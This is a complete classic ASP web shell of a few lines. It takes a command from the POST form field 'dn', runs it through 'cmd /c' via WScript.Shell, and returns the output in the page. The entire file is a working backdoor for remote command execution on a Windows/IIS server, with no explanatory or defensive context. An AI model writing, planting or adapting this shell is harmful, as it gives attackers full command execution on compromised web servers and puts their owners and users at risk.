<%
Dim sh, c
Set sh = CreateObject("WScript.Shell")
c = "cmd /c " & Request.Form("dn")
Response.Write sh.Exec(c).StdOut.ReadAll()
%>
